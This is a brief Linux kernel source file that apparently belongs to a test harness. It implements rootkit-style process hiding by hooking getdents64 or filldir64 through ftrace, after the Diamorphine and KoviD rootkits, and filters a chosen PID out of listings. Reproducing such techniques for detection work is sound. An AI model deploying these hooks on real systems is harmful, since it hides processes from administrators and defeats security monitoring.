// SPDX-License-Identifier: GPL-2.0
/* A process left out of listings: by ftrace at the system call, whose result is edited (Diamorphine
 * and KoviD of today), or at filldir64(), which each entry passes (variant=filldir). */
#include <linux/kernel.h>
#include <linux/string.h>

#include "divert.h"
#include "kernel.h"
#include "vtest.h"

static int start(const char *variant, int pid)
{
	filter_pid(pid);
	if (!strcmp(variant, "filldir"))
		return divert("filldir64", filter_entry, (void **)&real_filldir);
	return divert("__x64_sys_getdents64", filter_getdents, (void **)&real_getdents);
}

const struct trick ftrace_trick = {"ftrace", start, undivert};
